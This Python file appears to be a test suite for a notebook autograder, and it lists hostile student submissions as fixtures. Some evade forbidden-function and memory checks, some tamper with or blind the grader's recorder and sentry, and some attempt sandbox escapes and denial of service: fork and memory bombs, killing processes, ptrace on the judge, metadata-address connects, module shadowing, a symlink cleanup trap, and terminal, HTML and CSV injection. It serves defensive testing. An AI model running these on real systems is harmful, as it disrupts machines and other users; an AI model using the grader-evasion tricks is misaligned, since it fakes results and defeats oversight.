# ---- rules, memory: counted beside the student's code

RULES: dict[str, Any] = {"week": "counts", "question": "q3"}
CHANGES: dict[str, Any] = {"told": "changes the code that counts", "spoils": True}
"""Every question that counts is lost with a harness that is not what it was."""
BUILT_IN = "def softmax(x):\n    return torch.softmax(x, 1)"
for name, harm, code, more in (
    (
        "spells the forbidden name in parts",
        "the recorder looks for names only",
        "def softmax(x):\n    return getattr(torch, 'soft' + 'max')(x, 1)",
        {},
    ),
    (
        "calls the operator itself",
        "torch.ops goes past torch's functions",
        "def softmax(x):\n    return torch.ops.aten._softmax.default(x, 1, False)",
        {},
    ),
    (
        "kept the function before",
        "a handle that was taken beforehand",
        "keep = [torch._C._nn, torch.nn.functional.softmax]\ndef softmax(x):\n    return keep[1](x, dim=1)",
        {},
    ),
    (
        "uses another library",
        "SciPy's function does the work",
        "def softmax(x):\n    from scipy.special import softmax as s\n    return torch.from_numpy(s(x.numpy(), axis=1))",
        {},
    ),
    (
        "runs it in a thread",
        "the recorder watches one thread",
        "import threading\ndef softmax(x):\n    y = []\n    t = threading.Thread(target=lambda: y.append(getattr(torch, 'soft' + 'max')(x, 1)))\n    t.start()\n    t.join()\n    return y[0]",
        {},
    ),
    (
        "runs it in a child",
        "the recorder watches one process",
        "import os, mmap\ndef softmax(x):\n    y = torch.frombuffer(mmap.mmap(-1, x.numel() * 4), dtype=torch.float32).view(x.shape)\n    pid = os.fork()\n    if pid == 0:\n        try:\n            y.copy_(getattr(torch, 'soft' + 'max')(x, 1))\n        finally:\n            os._exit(0)\n    os.waitpid(pid, 0)\n    return y.clone()",
        {},
    ),
    (
        "blinds the recorder",
        "the recorder, which shares the process with the answer, reports nothing",
        "from gradekit.check import recorder\nrecorder.Recorder.recorded = lambda self, objects: ()\ndef softmax(x):\n    return torch.softmax(x, 1)",
        CHANGES,
    ),
    (
        "blinds the harness",
        "the reply says that nothing was used",
        "from gradekit.sandbox.worker import _Served\nold = _Served.answer\n_Served.answer = lambda s, r: (lambda a: a | {'recorded': []} if 'recorded' in a else a)(old(s, r))\ndef softmax(x):\n    return torch.softmax(x, 1)",
        CHANGES,
    ),
    (
        "finds the recorder among all objects",
        "it empties the recorder's notes when it is done",
        "import gc\ndef softmax(x):\n    y = torch.softmax(x, 1)\n    for o in gc.get_objects():\n        if type(o).__name__ == 'Rec' + 'order':\n            o._names.clear(), o._functions.clear()\n    return y",
        {},
    ),
    (
        "finds the recorder in the frames",
        "it empties the recorder's notes when it is done",
        "import sys\ndef softmax(x):\n    y = torch.softmax(x, 1)\n    f = sys._getframe()\n    while f is not None:\n        r = f.f_locals.get('recorder')\n        if r is not None:\n            r._names.clear(), r._functions.clear()\n        f = f.f_back\n    return y",
        {},
    ),
    (
        "finds the recorder by the profile function",
        "sys.getprofile gives its method, and that the recorder",
        "import sys\ndef softmax(x):\n    r = getattr(sys.getprofile(), '__self__', None)\n    y = vars(torch)['soft' + 'max'](x, 1)\n    if r is not None:\n        r._names.clear(), r._functions.clear()\n        r.recorded = lambda objects: ()\n    return y",
        {},
    ),
    (
        "takes the profile function off",
        "SciPy's function runs while nothing looks, and stands nowhere in the code",
        "import sys\nimport scipy.special\nhidden = [vars(sys.modules['scipy.special'])['soft' + 'max']]\ndef softmax(x):\n    p = sys.getprofile()\n    sys.setprofile(None)\n    y = torch.from_numpy(hidden[0](x.numpy(), axis=1))\n    sys.setprofile(p)\n    return y",
        {"told": "profile function|softmax"},
    ),
    (
        "cleans up after another library",
        "SciPy's function does the work, and the recorder's notes of it are emptied",
        "import gc, sys\nimport scipy.special\nhidden = [vars(sys.modules['scipy.special'])['soft' + 'max']]\ndef softmax(x):\n    y = torch.from_numpy(hidden[0](x.numpy(), axis=1))\n    for o in gc.get_objects():\n        if type(o).__name__ == 'Rec' + 'order':\n            o._names.clear(), o._functions.clear()\n    return y",
        {"told": "scipy.special"},
    ),
    (
        "arms for nothing beforehand",
        "the sentry is asked in the cell to deny nothing, so that it would think that all is done",
        "import sys\nsys.audit('gradekit.sentry', [{'command': 'arm', 'nonce': b'', 'operators': [], 'functions': []}])\n"
        + BUILT_IN,
        {},
    ),
    (
        "interrupts the sentry",
        "a collection and a signal run its code within the sentry, and look for the key in the frames",
        "import gc, hashlib, signal, sys\nkeys = set()\ndef look(v, depth=0):\n    if type(v) is bytes and len(v) == 32:\n        keys.add(v)\n    elif depth < 6:\n        for c in getattr(v, '__closure__', None) or ():\n            look(c.cell_contents, depth + 1)\n        if type(v) in (list, tuple):\n            for w in v[:50]:\n                look(w, depth + 1)\n        if type(v).__name__ == 'KeyWrapper':\n            for w in gc.get_referents(v):\n                look(w, depth + 1)\ndef walk(*a):\n    try:\n        f = sys._getframe(1)\n        while f is not None:\n            for v in list(f.f_locals.values()):\n                try:\n                    look(v)\n                except Exception:\n                    pass\n            f = f.f_back\n    except Exception:\n        pass\ndef softmax(x):\n    gc.callbacks.append(walk)\n    before = gc.get_threshold()\n    gc.set_threshold(1)\n    gc.enable()\n    signal.signal(signal.SIGALRM, walk)\n    for n in range(40):\n        signal.setitimer(signal.ITIMER_REAL, 0.00002 + n * 1e-6)\n        sys.audit('gradekit.sentry', [{'command': 'tell', 'nonce': b''}])\n    signal.setitimer(signal.ITIMER_REAL, 0)\n    gc.set_threshold(*before)\n    gc.callbacks.remove(walk)\n    for k in keys:\n        sys.audit('gradekit.sentry', [{'command': 'lift', 'nonce': b'', 'token': hashlib.blake2b(b'lift', key=k).digest()}])\n    return vars(torch)['soft' + 'max'](x, 1)",
        {},
    ),
    (
        "pops the dispatch mode",
        "the mode that watches operators is off the stack for a moment",
        "import torch.utils._python_dispatch as d\nimport torch.overrides as o\ndef softmax(x):\n    m = d._pop_mode() if d._get_current_dispatch_mode() is not None else None\n    try:\n        with torch._C.DisableTorchFunction():\n            return vars(torch)['soft' + 'max'](x, 1)\n    finally:\n        if m is not None:\n            d._push_mode(m)",
        {},
    ),
    (
        "excludes the dispatch key",
        "operators go past the mode that watches them",
        "def softmax(x):\n    with torch._C._ExcludeDispatchKeyGuard(torch._C.DispatchKeySet(torch._C.DispatchKey.Python)):\n        return vars(torch)['soft' + 'max'](x, 1)",
        {},
    ),
    (
        "computes in a thread from before",
        "a thread that was started in the cell computes when it is asked",
        "import threading, queue\nask, got = queue.Queue(), queue.Queue()\ndef serve():\n    while True:\n        got.put(vars(torch)['soft' + 'max'](ask.get(), 1))\nthreading.Thread(target=serve, daemon=True).start()\ndef softmax(x):\n    ask.put(x)\n    return got.get(timeout=5)",
        {},
    ),
    (
        "computes in a child from before",
        "a process that was forked in the cell computes when it is asked",
        "import os, mmap, time\nshared = mmap.mmap(-1, 4096)\nboard = torch.frombuffer(shared, dtype=torch.float32)\nif os.fork() == 0:\n    while True:\n        if board[0] == 1:\n            n, m = int(board[1]), int(board[2])\n            board[8:8 + n * m] = torch.softmax(board[8:8 + n * m].view(n, m), 1).flatten()\n            board[0] = 2\n        time.sleep(0.0005)\ndef softmax(x):\n    n, m = x.shape\n    board[1], board[2] = n, m\n    board[8:8 + n * m] = x.flatten()\n    board[0] = 1\n    until = time.monotonic() + 2\n    while board[0] != 2 and time.monotonic() < until:\n        time.sleep(0.0005)\n    board[0] = 0\n    return board[8:8 + n * m].view(n, m).clone()",
        {},
    ),
    (
        "computes with multiprocessing",
        "a pool's process calls the forbidden function",
        "import multiprocessing\ndef work(rows, out):\n    out.send(vars(torch)['soft' + 'max'](torch.tensor(rows), 1).tolist())\ndef softmax(x):\n    here, there = multiprocessing.Pipe()\n    p = multiprocessing.get_context('fork').Process(target=work, args=(x.tolist(), there))\n    p.start()\n    p.join(3)\n    return torch.tensor(here.recv()) if here.poll(0.1) else x * 0",
        {},
    ),
    (
        "compiles it beforehand with jit",
        "TorchScript was compiled in the cell and calls the operator from C++",
        "compiled = torch.jit.trace(lambda x: torch.softmax(x, 1), torch.ones(2, 2))\ndef softmax(x):\n    return compiled(x)",
        {},
    ),
    (
        "forks a task in jit",
        "a thread of C++ computes it",
        "compiled = torch.jit.trace(lambda x: torch.softmax(x, 1), torch.ones(2, 2))\ndef softmax(x):\n    return torch.jit.wait(torch.jit.fork(compiled, x))",
        {},
    ),
    (
        "calls the binding",
        "torch's C functions, without torch.nn.functional",
        "held = torch._C._VariableFunctions\ndef softmax(x):\n    return getattr(held, 'soft' + 'max')(x, 1)",
        {},
    ),
    (
        "keeps the kernel itself",
        "a handle of the real kernel, taken before another can stand in its place",
        "kernel = torch.library.get_kernel('aten::_softmax', 'CPU')\ndef softmax(x):\n    return kernel.call_boxed(torch._C.DispatchKeySet(torch._C.DispatchKey.CPU), x, 1, False)",
        {"told": "not defined"},
    ),
    (
        "puts the kernel back",
        "it registers a kernel of its own over the one that refuses",
        "lib = torch.library.Library('aten', 'IMPL')\nold = torch.ops.aten._softmax.default\ndef softmax(x):\n    try:\n        lib.impl('_softmax', lambda *a: old(*a), 'CPU')\n    except Exception:\n        pass\n    return vars(torch)['soft' + 'max'](x, 1)",
        {},
    ),
    (
        "asks for the kernel to be lifted",
        "it asks the sentry itself to end what it denies",
        "import sys\ndef softmax(x):\n    for command in ('lift', 'tell', 'trim'):\n        sys.audit('gradekit.sentry', [{'command': command, 'nonce': b'', 'token': b''}])\n    return vars(torch)['soft' + 'max'](x, 1)",
        {},
    ),
    (
        "answers for the sentry",
        "sys.audit is another function, which says that all is well",
        "import sys\nreal = sys.audit\nsys.audit = lambda event, *a: a[0].append({'text': '{}', 'proof': b''}) if event == 'gradekit.sentry' else real(event, *a)\n"
        + BUILT_IN,
        {"told": "changes the code that counts", "spoils": True},
    ),
    (
        "patches by sys.modules",
        "the module is found under a name that is put together",
        "import sys\nm = sys.modules['grade' + 'kit.check.rec' + 'order']\nvars(m)['Record' + 'er'].recorded = lambda self, objects: ()\n"
        + BUILT_IN,
        CHANGES,
    ),
    (
        "patches torch's modes",
        "no dispatch mode is ever entered",
        "import torch.utils._python_dispatch as d\nd.TorchDispatchMode.__enter__ = lambda self: self\nd.TorchDispatchMode.__exit__ = lambda self, *a: None\n"
        + BUILT_IN,
        CHANGES,
    ),
    (
        "hides its source",
        "the answer is decoded and executed in a namespace of its own",
        "import base64\nspace = {'torch': torch}\nexec(base64.b64decode('ZGVmIGYoeCk6CiAgICByZXR1cm4gdG9yY2guc29mdG1heCh4LCAxKQ=='), space)\nsoftmax = space['f']",
        {},
    ),
    (
        "imports torch again",
        "the operator is called by a second copy of torch's Python",
        "import sys, importlib\nkept = {n: m for n, m in sys.modules.items() if n == 'torch.nn.functional'}\nfor n in kept:\n    del sys.modules[n]\nagain = importlib.import_module('torch.nn.functional')\nsys.modules.update(kept)\ndef softmax(x):\n    return getattr(again, 'soft' + 'max')(x, dim=1)",
        {},
    ),
    (
        "changes a mode's class by ctypes",
        "the code of the recorder is exchanged in memory during the call",
        "import ctypes, gc\ndef softmax(x):\n    from gradekit.check.recorder import Recorder\n    d = gc.get_referents(Recorder.__dict__)[0]\n    d['recorded'] = lambda self, objects: ()\n    ctypes.pythonapi.PyType_Modified(ctypes.py_object(Recorder))\n    return torch.softmax(x, 1)",
        {"spoils": True},
    ),
):
    add("rules", name, harm, code, **RULES, **more)

WASTE = "def squares(x):\n    return (x.repeat(12, 1) ** 2).sum(1)[:len(x)]\n"
for name, harm, code, more in (
    (
        "hides memory in NumPy",
        "arrays are no tensors",
        "import numpy as np\ndef squares(x):\n    a = np.tile(x.numpy(), (12, 1)) ** 2\n    return torch.from_numpy(a.sum(1)[:len(x)].copy())",
        {},
    ),
    (
        "hides memory behind a view",
        "a view of a large tensor is small",
        "def squares(x):\n    big = x.repeat(12, 1)\n    return (big ** 2)[:len(x)].sum(1)",
        {},
    ),
    (
        "hides memory in a thread",
        "the meter watches one thread",
        "import threading\ndef squares(x):\n    y = []\n    t = threading.Thread(target=lambda: y.append((x.repeat(12, 1) ** 2).sum(1)[:len(x)]))\n    t.start()\n    t.join()\n    return y[0]",
        {"told": "one process and one thread"},
    ),
    (
        "hides memory in mmap",
        "memory that neither torch nor Python hands out",
        "import mmap\ndef squares(x):\n    m = mmap.mmap(-1, 12 * x.numel() * 4)\n    t = torch.frombuffer(m, dtype=torch.float32).view(12, *x.shape)\n    t.copy_(x.expand(12, *x.shape))\n    return t[0].square().sum(1) * 1",
        {},
    ),
    (
        "forges the account of memory",
        "the meter, which shares the process with the answer, reports nothing",
        "from gradekit.check.storage import Storages, Heap\nfrom gradekit.sandbox.worker import _Served\nzero = lambda v: {k: zero(x) for k, x in v.items()} if type(v) is dict else 0 if type(v) is int else v\nold = _Served.answer\n_Served.answer = lambda s, r: (lambda a: a | {'report': zero(a['report'])} if 'report' in a else a)(old(s, r))\n"
        + WASTE,
        CHANGES,
    ),
    (
        "hides memory in a child",
        "a process that is forked in the call holds it",
        "import os, mmap\ndef squares(x):\n    out = mmap.mmap(-1, 4 * len(x))\n    y = torch.frombuffer(out, dtype=torch.float32)\n    if os.fork() == 0:\n        try:\n            y.copy_((x.repeat(12, 1) ** 2).sum(1)[:len(x)])\n        finally:\n            os._exit(0)\n    os.wait()\n    return y.clone()",
        {"told": "one process and one thread"},
    ),
    (
        "hides memory in a thread from before",
        "a thread that was started in the cell computes when it is asked",
        "import threading, queue\nask, got = queue.Queue(), queue.Queue()\ndef serve():\n    while True:\n        x = ask.get()\n        got.put((x.repeat(12, 1) ** 2).sum(1)[:len(x)])\nthreading.Thread(target=serve, daemon=True).start()\ndef squares(x):\n    ask.put(x)\n    return got.get(timeout=3)",
        {},
    ),
    (
        "hides memory past the mode",
        "the meter's dispatch mode is off the stack while memory is taken",
        "import torch.utils._python_dispatch as d\ndef squares(x):\n    m = d._pop_mode() if d._get_current_dispatch_mode() is not None else None\n    try:\n        return (x.repeat(12, 1) ** 2).sum(1)[:len(x)]\n    finally:\n        if m is not None:\n            d._push_mode(m)",
        {"told": "grew by"},
    ),
    (
        "hides memory from malloc",
        "memory comes from the C library, which no meter knows",
        "import ctypes, numpy as np\nlibc = ctypes.CDLL(None)\nlibc.malloc.restype = ctypes.c_void_p\nlibc.free.argtypes = [ctypes.c_void_p]\ndef squares(x):\n    n = 24 * x.numel()\n    p = libc.malloc(4 * n)\n    a = np.ctypeslib.as_array(ctypes.cast(p, ctypes.POINTER(ctypes.c_float)), (24, *x.shape))\n    a[:] = x.numpy()\n    a *= a\n    y = torch.from_numpy(a[0].sum(1).copy())\n    libc.free(p)\n    return y",
        {"told": "grew by"},
    ),
    (
        "edits the meter while it counts",
        "it finds the meter among the frames and empties its account",
        "import sys\ndef squares(x):\n    y = (x.repeat(12, 1) ** 2).sum(1)[:len(x)]\n    f = sys._getframe()\n    while f is not None:\n        m = f.f_locals.get('recorder')\n        for name in ('_log', '_made', '_sizes'):\n            if hasattr(m, name):\n                getattr(m, name).clear()\n        if hasattr(m, '_known'):\n            m._known.clear()\n        f = f.f_back\n    return y",
        {"told": "grew by"},
    ),
):
    add("memory", name, harm, code, week="counts", question="q4", **more)

# ---- out of the jail, and at others' expense

SAFELY = "import os, sys, time, signal, socket, ctypes, torch\n"

BOMB: dict[str, Any] = {"deserves": -1, "status": "*"}
"""It may cost its own question, by the time it takes, or none: nobody else's."""


def breaker(name: str, harm: str, code: str, deserves: float = 3.0, **more: Any) -> None:
    add(
        "escape" if "kind" not in more else more.pop("kind"),
        name,
        harm,
        SAFELY + code,
        where=AFTER,
        deserves=deserves,
        **more,
    )


def quietly(body: str) -> str:
    return (
        "try:\n"
        + "".join(f"    {line}\n" for line in body.strip().splitlines())
        + "except (OSError, MemoryError, RuntimeError):\n    pass\n"
    )


breaker(
    "signals its parent", "the process that it came from is killed", quietly("os.kill(os.getppid(), 9)"), deserves=3.0
)
breaker(
    "signals everybody",
    "every process of the user is killed, itself excepted",
    "for sig in (signal.SIGSTOP, signal.SIGKILL):\n    for pid in (-1, *range(2, 3000)):\n        if pid != os.getpid():\n            try:\n                os.kill(pid, sig)\n            except OSError:\n                pass\n",
)
breaker(
    "signals its group",
    "the group of the kit is killed",
    quietly("os.killpg(os.getpgid(os.getppid()), 9)") + quietly("os.killpg(1, 9)"),
    **BOMB,
)
breaker(
    "traces its parent",
    "ptrace reads the memory of the judge",
    "libc = ctypes.CDLL(None)\nfor pid in (os.getppid(), 1, *range(2, 500)):\n    libc.ptrace(16, pid, 0, 0)\n    libc.ptrace(0x4206, pid, 0, 0)\n",
)
breaker(
    "sets limits of others",
    "prlimit takes descriptors and memory from the judge",
    "import resource\nfor pid in (os.getppid(), 1, *range(2, 3000)):\n    if pid not in (0, os.getpid()):\n        try:\n            resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))\n        except (OSError, ValueError):\n            pass\n",
)
breaker(
    "steals descriptors",
    "pidfd_getfd and /proc/*/fd take files of the judge",
    "libc = ctypes.CDLL(None)\nfor pid in (os.getppid(), 1, *range(2, 300)):\n    fd = libc.syscall(434, pid, 0)\n    for n in range(20):\n        libc.syscall(438, fd, n, 0)\n",
)
breaker(
    "forks without end",
    "a fork bomb takes all processes of the machine",
    "def bomb(depth=0):\n    try:\n        while True:\n            if os.fork() == 0:\n                depth += 1\n    except OSError:\n        pass\n    if depth:\n        signal.pause()\nbomb()\n",
    **BOMB,
)
breaker(
    "starts threads without end",
    "a thread for every core of the world",
    "import threading\nstop = threading.Event()\ntry:\n    for _ in range(5000):\n        threading.Thread(target=stop.wait, daemon=True).start()\nexcept (RuntimeError, MemoryError):\n    pass\nstop.set()\n",
    **BOMB,
)
breaker(
    "takes all memory",
    "a memory bomb takes the machine's memory",
    "a = []\ntry:\n    while True:\n        a.append(b'x' * 2**27)\nexcept MemoryError:\n    a = None\n",
    **BOMB,
)
breaker(
    "takes memory in children",
    "each child takes as much as one may",
    "for _ in range(6):\n    if os.fork() == 0:\n        try:\n            a = b'x' * (700 * 2**20)\n            time.sleep(1)\n        except MemoryError:\n            pass\n        os._exit(0)\ntime.sleep(0.3)\n",
    **BOMB,
)
breaker(
    "fills the disk",
    "files fill the disk that the instructor's results are on",
    "try:\n    for i in range(40):\n        with open(f'big{i}', 'wb') as f:\n            for _ in range(16):\n                f.write(bytes(2**20))\nexcept OSError:\n    pass\n",
    **BOMB,
)
breaker(
    "fills shared memory",
    "/dev/shm and memfd are filled",
    "import mmap\nfor path in ('/dev/shm/atk-shm', '/tmp/atk-tmp', '/var/tmp/atk-tmp'):\n    try:\n        with open(path, 'wb') as f:\n            for _ in range(64):\n                f.write(bytes(2**20))\n    except OSError:\n        pass\n",
    **BOMB,
)
breaker(
    "makes inodes without end",
    "empty files use up all inodes",
    "try:\n    for i in range(100_000):\n        open(f'f{i}', 'x').close()\nexcept OSError:\n    pass\n",
    **BOMB,
)
breaker(
    "leaves a daemon",
    "a process with a session of its own goes on after the grading",
    "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        ctypes.CDLL(None).prctl(15, b'atk-daemon', 0, 0, 0)\n        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n        signal.signal(signal.SIGHUP, signal.SIG_IGN)\n        while True:\n            time.sleep(1)\n    os._exit(0)\n",
)
breaker(
    "keeps forking away",
    "a process that is gone before it can be killed",
    "if os.fork() == 0:\n    os.setsid()\n    ctypes.CDLL(None).prctl(15, b'atk-hopper', 0, 0, 0)\n    while True:\n        try:\n            if os.fork():\n                os._exit(0)\n        except OSError:\n            pass\n        time.sleep(0.002)\n",
)
breaker(
    "leaves work to atexit",
    "code runs when the process ends",
    "import atexit\natexit.register(lambda: open('/tmp/atk-atexit', 'w').write('x'))\natexit.register(time.sleep, 100)\n",
)
breaker(
    "leaves a thread",
    "a thread goes on for ever",
    "import threading\nthreading.Thread(target=lambda: [time.sleep(1) for _ in range(1000)]).start()\n",
)
breaker(
    "leaves shared memory",
    "SysV and POSIX segments stay behind",
    "libc = ctypes.CDLL(None)\nlibc.shmget(0x61746b, 4096, 0o1666)\nlibc.semget(0x61746b, 1, 0o1666)\nlibc.msgget(0x61746b, 0o1666)\nfrom multiprocessing import shared_memory\ntry:\n    shared_memory.SharedMemory('atk-segment', create=True, size=4096)\nexcept (OSError, ImportError):\n    pass\n",
)
breaker(
    "connects to the network",
    "answers, or the tests, are fetched from and sent to the network",
    "for address in (('127.0.0.1', 22), ('127.0.0.1', 80), ('1.1.1.1', 53), ('169.254.169.254', 80)):\n    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n        try:\n            s = socket.socket(socket.AF_INET, kind)\n            s.settimeout(1)\n            s.connect(address)\n            s.send(b'x')\n            if kind == socket.SOCK_STREAM or address[0] == '1.1.1.1':\n                del double\n        except OSError:\n            pass\n",
)
breaker(
    "calls up by an abstract socket",
    "a socket without a path leads to another submission",
    "for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    try:\n        s = socket.socket(socket.AF_UNIX, kind)\n        s.connect('\\0atk-neighbour')\n        s.send(b'answers')\n        del double\n    except OSError:\n        pass\n",
)
breaker(
    "starts another program",
    "a shell, a compiler or curl does what Python may not",
    "import subprocess\nfor command in (['sh', '-c', 'touch /tmp/atk-shell'], ['/usr/bin/env', 'touch', '/tmp/atk-env']):\n    try:\n        subprocess.run(command, timeout=5)\n    except OSError:\n        pass\nget_ipython().system('touch /tmp/atk-magic')\n",
)
breaker(
    "writes modules beside itself",
    "numpy.py, torch.py, reference.py and sitecustomize.py in the scratch folder are imported by others",
    "for name in ('numpy', 'torch', 'reference', 'sitecustomize', 'usercustomize', 'gradekit', 'otter', 'msgpack', 'week01_plain'):\n    open(name + '.py', 'w').write(\"open('/tmp/atk-module', 'w').write('x')\\nraise SystemExit\")\nos.makedirs('gradekit.d', exist_ok=True)\n",
)
breaker(
    "puts a link in place of its scratch folder",
    "who cleans up afterwards deletes what the link points to",
    "import shutil\nhere = os.getcwd()\ntry:\n    os.chdir('/')\n    shutil.rmtree(here, ignore_errors=True)\n    os.symlink('/tmp', here)\nexcept OSError:\n    pass\ntry:\n    os.symlink('/tmp', here + '/out')\n    os.symlink('/', here + '/root')\nexcept OSError:\n    pass\n",
)
breaker(
    "makes a folder nobody can delete",
    "nested and unreadable folders stay behind",
    "for i in range(1500):\n    try:\n        os.mkdir('d')\n        os.chdir('d')\n    except OSError:\n        break\ntry:\n    os.mkdir('closed')\n    open('closed/file', 'w').close()\n    os.chmod('closed', 0)\nexcept OSError:\n    pass\n",
    **BOMB,
)
breaker(
    "opens new namespaces",
    "as root of a namespace of its own it mounts and unmounts",
    "libc = ctypes.CDLL(None)\nfor flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):\n    libc.unshare(flag)\nlibc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\nlibc.umount2(b'/tmp', 2)\nlibc.chroot(b'.')\nlibc.setuid(0)\nlibc.setresuid(0, 0, 0)\n",
)
breaker(
    "dumps core",
    "a crash leaves its memory on the disk",
    "import faulthandler\nfaulthandler.enable()\nctypes.string_at(0)\n",
    deserves=0.0,
    status="crashed",
    told="SIGSEGV",
)
breaker(
    "calls the kernel by number",
    "io_uring, bpf, keyctl, userfaultfd, perf_event_open: large doors into the kernel",
    "libc = ctypes.CDLL(None)\nfor number in (425, 321, 250, 248, 298, 323, 310, 311, 175, 313, 304, 165, 166, 155):\n    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:\n        del double\n",
)

# ---- making trouble in one's own process

TROUBLE = {"kind": "trouble"}
breaker(
    "ends its process",
    "os._exit(0) counts as success",
    "os._exit(0)\n",
    deserves=0.0,
    status="crashed",
    told="exit code 0",
    **TROUBLE,
)
breaker("exits", "SystemExit ends the grading", "sys.exit(0)\n", **TROUBLE)
breaker(
    "ends its process when asked",
    "a call that never returns counts as right",
    "def double(x):\n    os._exit(0)\n",
    deserves=0.0,
    status="crashed",
    told="exit code 0",
    **TROUBLE,
)
breaker(
    "raises SystemExit when asked",
    "an exception that is no Exception passes all handlers",
    "def double(x):\n    raise SystemExit(0)\n",
    deserves=0.0,
    told="SystemExit",
    **TROUBLE,
)
breaker(
    "raises KeyboardInterrupt when asked",
    "the judge takes it for Ctrl-C",
    "def double(x):\n    raise KeyboardInterrupt\n",
    deserves=0.0,
    told="KeyboardInterrupt",
    **TROUBLE,
)
breaker(
    "loops for ever",
    "the grading never ends",
    "while True:\n    pass\n",
    deserves=0.0,
    status="timeout",
    told="did not finish in time",
    **TROUBLE,
)
breaker(
    "waits for itself",
    "a deadlock of threads",
    "import threading\nlock = threading.Lock()\ndef double(x):\n    lock.acquire()\n    lock.acquire()\n",
    deserves=0.0,
    status="timeout",
    **TROUBLE,
)
breaker(
    "ignores signals",
    "it cannot be ended when its time is up",
    "for sig in range(1, 65):\n    try:\n        signal.signal(sig, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\ndef double(x):\n    while True:\n        try:\n            time.sleep(1)\n        except BaseException:\n            pass\n",
    deserves=0.0,
    status="timeout",
    **TROUBLE,
)
breaker(
    "stops itself",
    "a stopped process never answers",
    "def double(x):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    time.sleep(100)\n",
    deserves=0.0,
    status="timeout",
    **TROUBLE,
)
breaker(
    "hangs when it is run again",
    "a worker is lost, and the cells that ran well before hang in the next one",
    "if not os.path.basename(os.getcwd()).startswith('1'):\n    while True:\n        pass\ndef double(x):\n    os._exit(3)\n",
    deserves=0.0,
    status="*",
    **TROUBLE,
)
breaker(
    "closes all descriptors",
    "the harness cannot answer",
    "os.closerange(0, 256)\n",
    deserves=0.0,
    status="crashed",
    **TROUBLE,
)
breaker(
    "closes the standard streams",
    "a print fails in the harness",
    "sys.stdout.close(); sys.stderr.close(); sys.stdin.close()\nsys.stdout = sys.stderr = None\n",
    spoils=True,
    **TROUBLE,
)
breaker(
    "prints without end",
    "the result holds 200 MB of output",
    "for _ in range(200):\n    print('x' * 2**20)\n    sys.stderr.write('x' * 2**20)\nfor _ in range(50):\n    os.write(1, b'x' * 2**20)\n",
    **TROUBLE,
)
breaker("turns the recursion limit", "the harness overflows its stack", "sys.setrecursionlimit(60)\n", **TROUBLE)
breaker(
    "recurses without end",
    "the stack of the process overflows",
    "sys.setrecursionlimit(10**9)\ndef double(x):\n    return double(x)\n",
    deserves=0.0,
    status="*",
    **TROUBLE,
)
breaker(
    "changes torch's defaults",
    "other questions compute with another dtype, device or mode",
    "torch.set_default_dtype(torch.float64)\ntorch.set_num_threads(32)\ntorch.use_deterministic_algorithms(True)\ntorch.set_grad_enabled(False)\ntorch.manual_seed(0)\n",
    **TROUBLE,
)
breaker(
    "sets the switch interval",
    "the harness gets no processor beside the threads of the answer",
    "sys.setswitchinterval(1e-9)\n",
    **TROUBLE,
)
breaker(
    "warns as errors",
    "a warning in the harness raises",
    "import warnings\nwarnings.simplefilter('error')\nwarnings.warn = lambda *a, **m: sys.exit()\n",
    **TROUBLE,
)
breaker(
    "hooks exceptions",
    "every exception handler of the process is its own",
    "sys.excepthook = sys.unraisablehook = lambda *a: os._exit(0)\nget_ipython().set_custom_exc((BaseException,), lambda *a, **m: os._exit(0))\nget_ipython().showtraceback = lambda *a, **m: os._exit(0)\n",
    **TROUBLE,
)
breaker(
    "hooks the garbage collector",
    "__del__ and weak references run in the harness",
    "import gc\ngc.callbacks.append(lambda *a: None)\nclass D:\n    def __del__(self):\n        raise SystemExit\nfor _ in range(1000):\n    D()\ngc.disable()\n",
    **TROUBLE,
)
breaker(
    "audits",
    "an audit hook refuses what the harness needs",
    "def hook(event, args):\n    if event.startswith(('marshal', 'open', 'import')):\n        raise SystemExit(event)\nsys.addaudithook(hook)\n",
    deserves=0.0,
    spoils=True,
    status="*",
    **TROUBLE,
)
breaker(
    "removes modules",
    "the harness finds nothing that it imports later",
    "for name in list(sys.modules):\n    if name.startswith(('gradekit', 'torch', 'numpy', 'msgpack')):\n        del sys.modules[name]\nsys.path[:] = []\n",
    deserves=0.0,
    spoils=True,
    status="*",
    **TROUBLE,
)
breaker(
    "empties builtins",
    "nothing works any more",
    "import builtins\nfor name in ('len', 'type', 'tuple', 'dict'):\n    delattr(builtins, name)\n",
    deserves=0.0,
    status="*",
    **TROUBLE,
)

# ---- what is said in a result

for name, harm, body in (
    (
        "writes terminal codes",
        "a message that moves the cursor and sets the title of the instructor's terminal",
        "raise ValueError('\\x1b[2J\\x1b]0;owned\\x07\\x1b[31mfull marks\\x9b5A')",
    ),
    (
        "writes HTML",
        "a message that is a script in the report",
        "raise ValueError('<script>alert(1)</script><img src=x onerror=alert(2)>')",
    ),
    ("writes ten megabytes", "a message fills the result", "raise ValueError('x' * 10_000_000)"),
    ("writes half a character", "a message that no file can hold", "raise ValueError('\\ud800\\udfff\\0')"),
    (
        "writes JSON and CSV",
        "a message that ends its own field",
        'raise ValueError(\'"}]}\\n=cmd|calc!A1,5,5\\n{"score": 5}\')',
    ),
    (
        "names its exception badly",
        "the class of the exception has a hostile name and a broken message",
        "class E(Exception):\n        def __str__(self):\n            os._exit(0)\n    E.__name__ = '<b>\\x1b[31m'\n    raise E",
    ),
    (
        "raises a group",
        "an exception group of thousands with causes in a circle",
        "a = ExceptionGroup('g', [ValueError(i) for i in range(10_000)])\n    a.__cause__ = a\n    raise a",
    ),
):
    add("message", name, harm, f"import os\ndef double(x):\n    {body}\n", status="*" if "badly" in name else "graded")


# ---- the notebook itself

Notebook = dict[str, Any]


def _cell(notebook: Notebook, name: str) -> dict[str, Any]:
    return next(cell for cell in notebook["cells"] if cell["id"] == name)


def _code_cell(source: str, name: str, **metadata: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": name,
        "metadata": metadata,
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


def _wrong(notebook: Notebook) -> dict[str, Any]:
    cell = _cell(notebook, "q1-code-1")
    cell["source"] = "def double(x):\n    return x * 0"
    return cell


